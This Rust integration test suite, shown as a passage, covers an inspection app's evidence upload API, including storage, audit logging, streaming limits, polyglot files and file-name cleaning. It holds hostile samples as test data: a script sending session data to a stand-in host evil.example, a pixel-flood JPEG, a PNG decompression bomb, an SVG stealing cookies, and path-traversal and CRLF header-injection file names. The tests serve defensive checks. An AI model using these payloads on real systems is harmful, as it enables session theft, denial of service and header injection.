//! Evidence upload and download through the embedded S3 endpoint.

use kiemtra_shared::evidence::EvidenceMeta;
use sha2::Digest;
use uuid::Uuid;

use crate::both_backends;
use crate::helpers::{
    Backend, ENTERPRISE, INSPECTOR, REVIEWER, content_digest, error_body, jpeg_bytes, spawn_app,
    spawn_app_with,
};

both_backends!(
    uploaded_photo_is_stored_and_read_back_byte_exact,
    same_id_and_bytes_is_recognised,
    same_id_other_bytes_is_a_409,
    wrong_digest_is_a_422_and_leaves_nothing,
    non_image_posing_as_jpeg_is_a_415,
    oversized_photo_is_a_413_and_leaves_nothing,
    only_the_team_inspector_may_upload,
    another_tenants_evidence_is_a_404,
);

/// Uploads `bytes` as `kind` to the demo inspection's first item, with a correct digest and,
/// if given, the client's file name.
async fn put_evidence(
    app: &crate::helpers::TestApp,
    token: &str,
    id: Uuid,
    kind: &str,
    bytes: &[u8],
    file_name: Option<&str>,
) -> reqwest::Response {
    let mut query = vec![
        ("inspection_id", app.demo.inspection_id.to_string()),
        ("item_key", "osh.machine_guards".to_owned()),
        ("kind", kind.to_owned()),
    ];
    if let Some(name) = file_name {
        query.push(("file_name", name.to_owned()));
    }
    app.client
        .put(app.url(&format!("/api/v1/evidence/{id}")))
        .bearer_auth(token)
        .query(&query)
        .header("content-digest", content_digest(bytes))
        .body(bytes.to_vec())
        .send()
        .await
        .expect("PUT evidence")
}

/// The evidence row under `id`, if one was committed.
async fn evidence_row(
    app: &crate::helpers::TestApp,
    id: Uuid,
) -> Option<kiemtra_server::entities::evidence::Model> {
    use sea_orm::EntityTrait;
    kiemtra_server::entities::evidence::Entity::find_by_id(id)
        .one(&app.db)
        .await
        .expect("reading the evidence table")
}

async fn uploaded_photo_is_stored_and_read_back_byte_exact(backend: Backend) {
    let app = spawn_app(backend).await;
    let token = app.token(INSPECTOR).await;
    let bytes = jpeg_bytes(1);
    let id = Uuid::new_v4();

    let response = app.upload_photo(&token, id, &bytes).await;

    assert_eq!(response.status(), 201);
    let meta: EvidenceMeta = response.json().await.unwrap();
    assert_eq!(meta.sha256, hex::encode(sha2::Sha256::digest(&bytes)));
    assert_eq!(meta.size_bytes, bytes.len() as i64);
    assert_eq!(meta.content_type, "image/jpeg");
    assert_eq!(meta.latitude, Some(21.0285));
    assert_eq!(app.stored_object_count().await, 1);
    let reviewer = app.token(REVIEWER).await;
    let download = app
        .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
        .await;
    assert_eq!(download.status(), 200);
    assert_eq!(download.headers()["content-type"], "image/jpeg");
    assert_eq!(download.bytes().await.unwrap().as_ref(), bytes.as_slice());
}

async fn same_id_and_bytes_is_recognised(backend: Backend) {
    let app = spawn_app(backend).await;
    let token = app.token(INSPECTOR).await;
    let id = Uuid::new_v4();
    let bytes = jpeg_bytes(2);

    let first = app.upload_photo(&token, id, &bytes).await.status();
    let second = app.upload_photo(&token, id, &bytes).await.status();

    assert_eq!((first.as_u16(), second.as_u16()), (201, 200));
    assert_eq!(app.stored_object_count().await, 1);
}

async fn same_id_other_bytes_is_a_409(backend: Backend) {
    let app = spawn_app(backend).await;
    let token = app.token(INSPECTOR).await;
    let id = Uuid::new_v4();
    assert_eq!(
        app.upload_photo(&token, id, &jpeg_bytes(3)).await.status(),
        201
    );

    let response = app.upload_photo(&token, id, &jpeg_bytes(4)).await;

    assert_eq!(response.status(), 409);
    let body = error_body(response).await;
    let fields: Vec<&str> = body.details.iter().map(|d| d.field.as_str()).collect();
    assert_eq!(fields, vec!["sha256"], "the difference is named");
    let reviewer = app.token(REVIEWER).await;
    let kept = app
        .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
        .await;
    assert_eq!(
        kept.bytes().await.unwrap().as_ref(),
        jpeg_bytes(3).as_slice(),
        "first upload kept"
    );
}

async fn wrong_digest_is_a_422_and_leaves_nothing(backend: Backend) {
    let app = spawn_app(backend).await;
    let token = app.token(INSPECTOR).await;
    let id = Uuid::new_v4();
    let digest_of_other_bytes = content_digest(b"something else");

    let response = app
        .upload(
            &token,
            id,
            app.demo.inspection_id,
            &jpeg_bytes(5),
            Some(&digest_of_other_bytes),
        )
        .await;

    assert_eq!(response.status(), 422);
    assert_eq!(error_body(response).await.code, "digest_mismatch");
    assert_eq!(app.stored_object_count().await, 0);
    let reviewer = app.token(REVIEWER).await;
    assert_eq!(
        app.get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await
            .status(),
        404
    );
}

async fn non_image_posing_as_jpeg_is_a_415(backend: Backend) {
    let app = spawn_app(backend).await;
    let token = app.token(INSPECTOR).await;
    let html = b"<html><script>alert(1)</script></html>";

    let response = app.upload_photo(&token, Uuid::new_v4(), html).await;

    assert_eq!(response.status(), 415);
    assert_eq!(error_body(response).await.code, "unsupported_media_type");
    assert_eq!(app.stored_object_count().await, 0);
}

async fn oversized_photo_is_a_413_and_leaves_nothing(backend: Backend) {
    let app = spawn_app_with(backend, |s| s.limits.max_photo_bytes = 256).await;
    let token = app.token(INSPECTOR).await;

    let response = app
        .upload_photo(&token, Uuid::new_v4(), &jpeg_bytes(6))
        .await;

    assert_eq!(response.status(), 413);
    assert_eq!(error_body(response).await.code, "payload_too_large");
    assert_eq!(app.stored_object_count().await, 0);
}

async fn only_the_team_inspector_may_upload(backend: Backend) {
    let app = spawn_app(backend).await;
    for email in [REVIEWER, ENTERPRISE] {
        let token = app.token(email).await;
        let response = app
            .upload_photo(&token, Uuid::new_v4(), &jpeg_bytes(7))
            .await;
        assert_eq!(response.status(), 403, "{email}");
    }
    let inspector = app.token(INSPECTOR).await;
    let bytes = jpeg_bytes(8);
    let response = app
        .upload(
            &inspector,
            Uuid::new_v4(),
            app.demo.other_inspection_id,
            &bytes,
            Some(&content_digest(&bytes)),
        )
        .await;
    assert_eq!(
        response.status(),
        404,
        "not on that team: the inspection does not exist for them"
    );
    assert_eq!(app.stored_object_count().await, 0);
}

async fn another_tenants_evidence_is_a_404(backend: Backend) {
    let app = spawn_app(backend).await;
    let inspector = app.token(INSPECTOR).await;
    let id = Uuid::new_v4();
    assert_eq!(
        app.upload_photo(&inspector, id, &jpeg_bytes(9))
            .await
            .status(),
        201
    );
    // Move the enterprise user to the other enterprise: the photo is no longer theirs to see.
    app.move_to_other_enterprise(ENTERPRISE).await;
    let other_tenant = app.token(ENTERPRISE).await;

    let response = app
        .get(&format!("/api/v1/evidence/{id}/content"), &other_tenant)
        .await;

    assert_eq!(response.status(), 404);
}

mod derivatives {
    //! Thumbnails, previews, decode limits and the chain of custody of downloads.

    use std::time::{Duration, Instant};

    use kiemtra_shared::evidence::{DerivativeState, EvidenceMeta};
    use kiemtra_shared::inspection::InspectionDetail;
    use uuid::Uuid;

    use crate::both_backends;
    use crate::helpers::{
        Backend, INSPECTOR, REVIEWER, TestApp, content_digest, error_body, jpeg_bytes,
        jpeg_of_size, spawn_app,
    };

    both_backends!(
        thumbnail_and_preview_are_made_after_the_upload,
        a_pixel_flood_is_refused_before_anything_is_stored,
        a_png_decompression_bomb_is_refused,
        a_broken_jpeg_is_refused_as_corrupt,
        downloading_an_original_is_recorded_in_the_audit_log,
        downloads_at_once_keep_the_audit_chain_whole,
        a_document_has_no_thumbnail,
        the_sweeper_removes_orphans_and_keeps_every_referenced_object,
    );

    async fn evidence_meta(app: &TestApp, token: &str, id: Uuid) -> EvidenceMeta {
        let detail: InspectionDetail = app
            .get(
                &format!("/api/v1/inspections/{}", app.demo.inspection_id),
                token,
            )
            .await
            .json()
            .await
            .unwrap();
        detail
            .evidence
            .into_iter()
            .find(|e| e.id == id)
            .expect("evidence listed")
    }

    /// Polls until the derivatives are no longer pending (deadline 60 s).
    pub(super) async fn settled(app: &TestApp, token: &str, id: Uuid) -> EvidenceMeta {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let meta = evidence_meta(app, token, id).await;
            if meta.derivatives != DerivativeState::Pending || Instant::now() > deadline {
                return meta;
            }
            tokio::task::yield_now().await;
        }
    }

    fn size_of(jpeg: &[u8]) -> (u32, u32) {
        let image = image::load_from_memory_with_format(jpeg, image::ImageFormat::Jpeg).unwrap();
        (image.width(), image.height())
    }

    async fn thumbnail_and_preview_are_made_after_the_upload(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();
        let photo = jpeg_of_size(2400, 1800, 7);
        assert_eq!(app.upload_photo(&inspector, id, &photo).await.status(), 201);

        let meta = settled(&app, &reviewer, id).await;

        assert_eq!(meta.derivatives, DerivativeState::Done);
        assert_eq!((meta.width, meta.height), (Some(2400), Some(1800)));
        let thumbnail = app
            .get(&format!("/api/v1/evidence/{id}/thumbnail"), &reviewer)
            .await;
        assert_eq!(thumbnail.headers()["content-type"], "image/jpeg");
        assert!(
            thumbnail.headers()["etag"]
                .to_str()
                .unwrap()
                .ends_with("-thumb\"")
        );
        let thumbnail = thumbnail.bytes().await.unwrap();
        let preview = app
            .get(&format!("/api/v1/evidence/{id}/preview"), &reviewer)
            .await
            .bytes()
            .await
            .unwrap();
        assert_eq!(size_of(&thumbnail), (320, 240));
        assert_eq!(size_of(&preview), (1600, 1200));
        let original = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await
            .bytes()
            .await
            .unwrap();
        assert_eq!(
            original.as_ref(),
            photo.as_slice(),
            "the original is kept byte-exact"
        );
    }

    /// A real JPEG whose frame header then claims 65500×65500 pixels (under 1 KB).
    fn pixel_flood() -> Vec<u8> {
        let mut flood = jpeg_of_size(8, 8, 1);
        let sof = flood.windows(2).position(|w| w == [0xFF, 0xC0]).unwrap();
        flood[sof + 5..sof + 7].copy_from_slice(&65500u16.to_be_bytes());
        flood[sof + 7..sof + 9].copy_from_slice(&65500u16.to_be_bytes());
        flood
    }

    async fn a_pixel_flood_is_refused_before_anything_is_stored(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let flood = pixel_flood();
        assert!(flood.len() < 1000);

        let response = app.upload_photo(&inspector, Uuid::new_v4(), &flood).await;

        assert_eq!(response.status(), 422);
        assert_eq!(error_body(response).await.code, "image_too_large");
        assert_eq!(app.stored_object_count().await, 0);
    }

    async fn a_png_decompression_bomb_is_refused(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        // A real 1×1 PNG whose header then claims 100000×100000 pixels, CRC fixed.
        let mut png = Vec::new();
        image::RgbImage::new(1, 1)
            .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
            .unwrap();
        png[16..20].copy_from_slice(&100_000u32.to_be_bytes());
        png[20..24].copy_from_slice(&100_000u32.to_be_bytes());
        let crc = crc32(&png[12..29]);
        png[29..33].copy_from_slice(&crc.to_be_bytes());

        let response = app.upload_photo(&inspector, Uuid::new_v4(), &png).await;

        assert_eq!(response.status(), 422);
        assert_eq!(error_body(response).await.code, "image_too_large");
        assert_eq!(app.stored_object_count().await, 0);
    }

    async fn a_broken_jpeg_is_refused_as_corrupt(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let mut fake = vec![0xFF, 0xD8, 0xFF, 0xE0];
        fake.extend(b"<html><script>alert(1)</script></html>");

        let response = app.upload_photo(&inspector, Uuid::new_v4(), &fake).await;

        assert_eq!(response.status(), 422);
        assert_eq!(error_body(response).await.code, "image_corrupt");
        assert_eq!(app.stored_object_count().await, 0);
    }

    async fn downloading_an_original_is_recorded_in_the_audit_log(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();
        assert_eq!(
            app.upload_photo(&inspector, id, &jpeg_bytes(3))
                .await
                .status(),
            201
        );
        let before = kiemtra_server::services::audit::verify(&app.db)
            .await
            .unwrap()
            .events;

        assert_eq!(
            app.get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
                .await
                .status(),
            200
        );

        let after = kiemtra_server::services::audit::verify(&app.db)
            .await
            .unwrap();
        assert_eq!(after.events, before + 1);
        use sea_orm::{EntityTrait, QueryOrder};
        let last = kiemtra_server::entities::audit_event::Entity::find()
            .order_by_desc(kiemtra_server::entities::audit_event::Column::Seq)
            .one(&app.db)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(
            (last.action.as_str(), last.entity_id),
            ("evidence.downloaded", id.to_string())
        );
    }

    async fn downloads_at_once_keep_the_audit_chain_whole(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();
        assert_eq!(
            app.upload_photo(&inspector, id, &jpeg_bytes(4))
                .await
                .status(),
            201
        );
        let before = kiemtra_server::services::audit::verify(&app.db)
            .await
            .unwrap()
            .events;

        let path = format!("/api/v1/evidence/{id}/content");
        let downloads = (0..12).map(|n| {
            let token = if n % 2 == 0 { &inspector } else { &reviewer };
            app.get(&path, token)
        });
        let statuses: Vec<u16> = futures_util::future::join_all(downloads)
            .await
            .iter()
            .map(|r| r.status().as_u16())
            .collect();

        assert_eq!(statuses, vec![200; 12]);
        let after = kiemtra_server::services::audit::verify(&app.db)
            .await
            .unwrap();
        assert_eq!(after.first_broken, None, "the chain forked");
        assert_eq!(after.events, before + 12);
    }

    async fn a_document_has_no_thumbnail(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let id = Uuid::new_v4();
        let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
        let response = app
            .client
            .put(app.url(&format!("/api/v1/evidence/{id}")))
            .bearer_auth(&inspector)
            .query(&[
                ("inspection_id", app.demo.inspection_id.to_string()),
                ("item_key", "osh.machine_guards".to_owned()),
                ("kind", "document".to_owned()),
            ])
            .header("content-digest", content_digest(&pdf))
            .body(pdf)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 201);

        let meta = evidence_meta(&app, &inspector, id).await;
        let thumbnail = app
            .get(&format!("/api/v1/evidence/{id}/thumbnail"), &inspector)
            .await;

        assert_eq!(meta.derivatives, DerivativeState::None);
        assert_eq!(thumbnail.status(), 404);
    }

    async fn the_sweeper_removes_orphans_and_keeps_every_referenced_object(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();
        assert_eq!(
            app.upload_photo(&inspector, id, &jpeg_of_size(1200, 900, 5))
                .await
                .status(),
            201
        );
        assert_eq!(
            settled(&app, &reviewer, id).await.derivatives,
            DerivativeState::Done
        );
        // An object no row refers to, as a crash between storing and committing leaves.
        let orphan = format!(
            "evidence/{}/{}/left-behind",
            app.demo.inspection_id,
            Uuid::new_v4()
        );
        app.storage
            .put(&orphan, b"orphan", "application/octet-stream")
            .await
            .unwrap();

        let young = kiemtra_server::services::sweeper::sweep(
            &app.db,
            &app.storage,
            chrono::Duration::hours(1),
        )
        .await
        .unwrap();
        let swept = kiemtra_server::services::sweeper::sweep(
            &app.db,
            &app.storage,
            chrono::Duration::zero(),
        )
        .await
        .unwrap();

        assert!(
            young.removed.is_empty(),
            "within the grace period nothing is removed"
        );
        assert_eq!(swept.removed, vec![orphan.clone()]);
        assert_eq!(
            swept.examined, 4,
            "original, thumbnail, preview and the orphan"
        );
        assert!(app.storage.get(&orphan).await.unwrap().is_none());
        for rendition in ["content", "thumbnail", "preview"] {
            let response = app
                .get(&format!("/api/v1/evidence/{id}/{rendition}"), &reviewer)
                .await;
            assert_eq!(response.status(), 200, "{rendition} kept");
        }
    }

    pub(super) fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xFFFF_FFFFu32;
        for &b in bytes {
            crc ^= u32::from(b);
            for _ in 0..8 {
                crc = if crc & 1 != 0 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
}

mod streaming {
    //! The body streams to storage: multipart for large files, and cut or oversized uploads
    //! leave nothing behind.

    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use uuid::Uuid;

    use crate::both_backends;
    use crate::helpers::{
        Backend, INSPECTOR, REVIEWER, TestApp, claims_of, content_digest, forge, jpeg_of_size,
        spawn_app, spawn_app_with,
    };

    both_backends!(
        a_large_file_goes_through_multipart_byte_exact,
        a_cut_upload_stores_nothing,
        a_chunked_body_over_the_limit_is_a_413_and_stores_nothing,
        a_token_expiring_mid_upload_is_a_401_and_stores_nothing,
    );

    fn upload_path(app: &TestApp, id: Uuid, kind: &str) -> String {
        format!(
            "/api/v1/evidence/{id}?inspection_id={}&item_key=osh.machine_guards&kind={kind}",
            app.demo.inspection_id
        )
    }

    /// Sends `head` then `body` on a raw connection, optionally closing early, and returns the
    /// status line's code (0 when the server answered nothing).
    async fn raw(app: &TestApp, head: String, body: &[u8]) -> u16 {
        let address = app.url.trim_start_matches("http://").to_owned();
        let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
        stream.write_all(head.as_bytes()).await.unwrap();
        stream.write_all(body).await.unwrap();
        stream.shutdown().await.unwrap();
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer).await;
        String::from_utf8_lossy(&answer)
            .split_whitespace()
            .nth(1)
            .and_then(|code| code.parse().ok())
            .unwrap_or(0)
    }

    async fn a_token_expiring_mid_upload_is_a_401_and_stores_nothing(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        // A token at the very end of its life: accepted when the upload starts (within the
        // server's 30 s leeway), expired a few seconds later.
        let mut claims = claims_of(&inspector);
        claims["exp"] = serde_json::json!(chrono::Utc::now().timestamp() - 28);
        let dying = forge(&app, claims);
        let id = Uuid::new_v4();
        let mut document = b"%PDF-1.7\n".to_vec();
        document
            .extend((0..3 * 1024 * 1024u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
        let address = app.url.trim_start_matches("http://").to_owned();
        let mut stream = tokio::net::TcpStream::connect(&address).await.unwrap();
        let head = format!(
            "PUT {} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {dying}\r\n\
             Content-Digest: {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            upload_path(&app, id, "document"),
            content_digest(&document),
            document.len()
        );

        stream.write_all(head.as_bytes()).await.unwrap();
        stream.write_all(&document[..1024 * 1024]).await.unwrap();
        // A slow link: the rest arrives after the token has run out.
        app.advance_clock(3);
        stream.write_all(&document[1024 * 1024..]).await.unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).await.unwrap();
        let answer = String::from_utf8_lossy(&answer);

        assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
        assert!(answer.contains("token_expired"), "{answer}");
        assert_eq!(app.stored_object_count().await, 0);
        assert_eq!(
            app.get(&format!("/api/v1/evidence/{id}"), &inspector)
                .await
                .status(),
            404
        );
    }

    async fn a_large_file_goes_through_multipart_byte_exact(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let id = Uuid::new_v4();
        // 9 MiB: more than one 8 MiB part.
        let mut document = b"%PDF-1.7\n".to_vec();
        document
            .extend((0..9 * 1024 * 1024u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));

        let response = app
            .client
            .put(app.url(&upload_path(&app, id, "document")))
            .bearer_auth(&inspector)
            .header("content-digest", content_digest(&document))
            .body(document.clone())
            .send()
            .await
            .unwrap();

        assert_eq!(response.status(), 201);
        let reviewer = app.token(REVIEWER).await;
        let back = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await
            .bytes()
            .await
            .unwrap();
        assert_eq!(back.len(), document.len());
        assert!(
            back.as_ref() == document.as_slice(),
            "byte-exact after multipart"
        );
    }

    async fn a_cut_upload_stores_nothing(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let photo = jpeg_of_size(400, 300, 2);
        let half = &photo[..photo.len() / 2];
        let head = format!(
            "PUT {} HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {inspector}\r\nContent-Type: image/jpeg\r\nContent-Length: {}\r\n\r\n",
            upload_path(&app, Uuid::new_v4(), "photo"),
            photo.len()
        );

        let status = raw(&app, head, half).await;

        assert!(
            status == 400 || status == 0,
            "a cut upload is refused, got {status}"
        );
        assert_eq!(app.stored_object_count().await, 0);
        use sea_orm::{EntityTrait, PaginatorTrait};
        assert_eq!(
            kiemtra_server::entities::evidence::Entity::find()
                .count(&app.db)
                .await
                .unwrap(),
            0
        );
    }

    async fn a_chunked_body_over_the_limit_is_a_413_and_stores_nothing(backend: Backend) {
        // No Content-Length: the limit is enforced while streaming.
        let app = spawn_app_with(backend, |s| s.limits.max_photo_bytes = 400 * 1024).await;
        let inspector = app.token(INSPECTOR).await;
        let photo = jpeg_of_size(3200, 2400, 3);
        assert!(
            photo.len() > 400 * 1024,
            "the test photo must exceed the limit: {}",
            photo.len()
        );
        let mut chunked = Vec::new();
        for chunk in photo.chunks(64 * 1024) {
            chunked.extend(format!("{:x}\r\n", chunk.len()).as_bytes());
            chunked.extend(chunk);
            chunked.extend(b"\r\n");
        }
        chunked.extend(b"0\r\n\r\n");
        let head = format!(
            "PUT {} HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {inspector}\r\nContent-Type: image/jpeg\r\nTransfer-Encoding: chunked\r\n\r\n",
            upload_path(&app, Uuid::new_v4(), "photo")
        );

        let status = raw(&app, head, &chunked).await;

        assert_eq!(status, 413);
        assert_eq!(app.stored_object_count().await, 0);
    }
}

mod polyglots {
    //! Files that are two formats at once: the type is what the magic bytes say, and a download
    //! is never rendered by the browser.

    use kiemtra_shared::evidence::{DerivativeState, EvidenceMeta};
    use sha2::Digest;
    use uuid::Uuid;

    use super::derivatives::{crc32, settled};
    use super::{evidence_row, put_evidence};
    use crate::both_backends;
    use crate::helpers::{Backend, INSPECTOR, REVIEWER, error_body, jpeg_of_size, spawn_app};

    both_backends!(
        a_jpeg_carrying_html_and_a_zip_after_its_end_is_served_as_an_attachment,
        html_and_svg_are_refused_as_photo_and_as_document,
    );

    /// A ZIP archive holding one stored (uncompressed) file.
    fn zip_with(name: &str, content: &[u8]) -> Vec<u8> {
        let crc = crc32(content);
        let size = content.len() as u32;
        let name_len = name.len() as u16;
        let mut zip = b"PK\x03\x04".to_vec();
        for field in [20u16, 0, 0, 0, 0] {
            zip.extend(field.to_le_bytes());
        }
        for field in [crc, size, size] {
            zip.extend(field.to_le_bytes());
        }
        zip.extend(name_len.to_le_bytes());
        zip.extend(0u16.to_le_bytes());
        zip.extend(name.as_bytes());
        zip.extend(content);
        let central_start = zip.len() as u32;
        zip.extend(b"PK\x01\x02");
        for field in [20u16, 20, 0, 0, 0, 0] {
            zip.extend(field.to_le_bytes());
        }
        for field in [crc, size, size] {
            zip.extend(field.to_le_bytes());
        }
        for field in [name_len, 0, 0, 0, 0] {
            zip.extend(field.to_le_bytes());
        }
        zip.extend(0u32.to_le_bytes());
        zip.extend(0u32.to_le_bytes());
        zip.extend(name.as_bytes());
        let central_size = zip.len() as u32 - central_start;
        zip.extend(b"PK\x05\x06");
        for field in [0u16, 0, 1, 1] {
            zip.extend(field.to_le_bytes());
        }
        zip.extend(central_size.to_le_bytes());
        zip.extend(central_start.to_le_bytes());
        zip.extend(0u16.to_le_bytes());
        zip
    }

    const SCRIPT_PAGE: &[u8] = b"<!doctype html><html><body><script>fetch('/api/v1/auth/me')\
        .then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))\
        </script></body></html>";

    async fn a_jpeg_carrying_html_and_a_zip_after_its_end_is_served_as_an_attachment(
        backend: Backend,
    ) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let mut polyglot = jpeg_of_size(640, 480, 11);
        assert_eq!(
            polyglot[polyglot.len() - 2..],
            [0xFF, 0xD9],
            "ends with EOI"
        );
        polyglot.extend(SCRIPT_PAGE);
        polyglot.extend(zip_with("payload.html", SCRIPT_PAGE));
        let id = Uuid::new_v4();

        let response = put_evidence(&app, &inspector, id, "photo", &polyglot, None).await;

        assert_eq!(response.status(), 201, "data after EOI is accepted");
        let meta: EvidenceMeta = response.json().await.unwrap();
        assert_eq!(meta.content_type, "image/jpeg");
        assert_eq!(meta.sha256, hex::encode(sha2::Sha256::digest(&polyglot)));
        let download = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await;
        assert_eq!(download.status(), 200);
        let headers = download.headers().clone();
        assert_eq!(headers["content-type"], "image/jpeg");
        assert_eq!(
            headers["content-length"],
            polyglot.len().to_string().as_str(),
            "streamed with its length"
        );
        assert_eq!(headers["x-content-type-options"], "nosniff");
        let disposition = headers["content-disposition"].to_str().unwrap();
        assert!(
            disposition.starts_with("attachment"),
            "never inline: {disposition}"
        );
        let csp = headers["content-security-policy"].to_str().unwrap();
        assert!(
            csp.split(';').any(|d| d.trim() == "sandbox"),
            "sandboxed: {csp}"
        );
        assert!(csp.contains("default-src 'none'"), "{csp}");
        assert_eq!(
            download.bytes().await.unwrap().as_ref(),
            polyglot.as_slice(),
            "the original is kept byte-exact, trailing data included"
        );
        assert_eq!(
            settled(&app, &reviewer, id).await.derivatives,
            DerivativeState::Done,
            "the photo part still gets its thumbnail"
        );
    }

    async fn html_and_svg_are_refused_as_photo_and_as_document(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let mut html_with_jpeg = SCRIPT_PAGE.to_vec();
        html_with_jpeg.extend(b"<!-- ");
        html_with_jpeg.extend(jpeg_of_size(32, 32, 12));
        html_with_jpeg.extend(b" -->");
        let svg = br#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">
<script>alert(1)</script><rect width="10" height="10"/></svg>"#
            .to_vec();

        for (what, bytes) in [("html", &html_with_jpeg), ("svg", &svg)] {
            for kind in ["photo", "document"] {
                let id = Uuid::new_v4();

                let response = put_evidence(&app, &inspector, id, kind, bytes, None).await;

                assert_eq!(response.status(), 415, "{what} as {kind}");
                assert_eq!(
                    error_body(response).await.code,
                    "unsupported_media_type",
                    "{what} as {kind}"
                );
                assert!(
                    evidence_row(&app, id).await.is_none(),
                    "{what} as {kind}: no row"
                );
            }
        }
        assert_eq!(app.stored_object_count().await, 0);
    }
}

mod file_names {
    //! The client's file name names the download and nothing else: never a path, never a part
    //! of the storage key, never a header break.

    use kiemtra_shared::evidence::EvidenceMeta;
    use uuid::Uuid;

    use super::{evidence_row, put_evidence};
    use crate::both_backends;
    use crate::helpers::{Backend, INSPECTOR, REVIEWER, jpeg_bytes, spawn_app};

    both_backends!(
        a_hostile_file_name_is_cleaned_and_never_reaches_the_key_or_a_header,
        a_file_name_with_nothing_left_is_left_out,
        a_vietnamese_file_name_names_the_download,
    );

    async fn a_hostile_file_name_is_cleaned_and_never_reaches_the_key_or_a_header(
        backend: Backend,
    ) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let cases = [
            ("../../../../etc/passwd", "passwd"),
            ("..\\..\\win.ini", "win.ini"),
            ("/abs/x.jpg", "x.jpg"),
            (
                "ảnh.jpg\r\nSet-Cookie: stolen=1\r\n\r\n<script>",
                "ảnh.jpgSet-Cookie: stolen=1<script>",
            ),
        ];
        for (seed, (sent, kept)) in (20u8..).zip(cases) {
            let id = Uuid::new_v4();
            let bytes = jpeg_bytes(seed);

            let response = put_evidence(&app, &inspector, id, "photo", &bytes, Some(sent)).await;

            assert_eq!(response.status(), 201, "{sent:?}");
            let meta: EvidenceMeta = response.json().await.unwrap();
            assert_eq!(
                meta.file_name.as_ref().map(|n| n.as_str()),
                Some(kept),
                "{sent:?}"
            );
            let row = evidence_row(&app, id).await.expect("a row");
            assert_eq!(row.file_name.as_deref(), Some(kept), "{sent:?}");
            let prefix = format!("evidence/{}/{id}/", app.demo.inspection_id);
            let attempt = row.storage_key.strip_prefix(&prefix);
            assert!(
                attempt.is_some_and(|rest| Uuid::parse_str(rest).is_ok()),
                "the key is the server's own: {}",
                row.storage_key
            );
            for part in sent
                .split(['/', '\\'])
                .chain([kept])
                .filter(|p| !p.is_empty() && *p != "..")
            {
                assert!(!row.storage_key.contains(part), "{part:?} in the key");
            }
            let download = app
                .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
                .await;
            assert_eq!(download.status(), 200, "{sent:?}");
            assert!(download.headers().get("set-cookie").is_none(), "{sent:?}");
            let disposition = download.headers()["content-disposition"]
                .to_str()
                .expect("visible ASCII");
            assert!(
                disposition.starts_with("attachment; filename=\"")
                    && !disposition.contains(['\r', '\n']),
                "{disposition:?}"
            );
            assert_eq!(download.bytes().await.unwrap().as_ref(), bytes.as_slice());
        }
    }

    async fn a_file_name_with_nothing_left_is_left_out(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();

        let response = put_evidence(
            &app,
            &inspector,
            id,
            "photo",
            &jpeg_bytes(30),
            Some("../.."),
        )
        .await;

        assert_eq!(response.status(), 201);
        let meta: EvidenceMeta = response.json().await.unwrap();
        assert_eq!(meta.file_name, None);
        assert_eq!(evidence_row(&app, id).await.unwrap().file_name, None);
        let download = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await;
        assert_eq!(download.headers()["content-disposition"], "attachment");
    }

    async fn a_vietnamese_file_name_names_the_download(backend: Backend) {
        let app = spawn_app(backend).await;
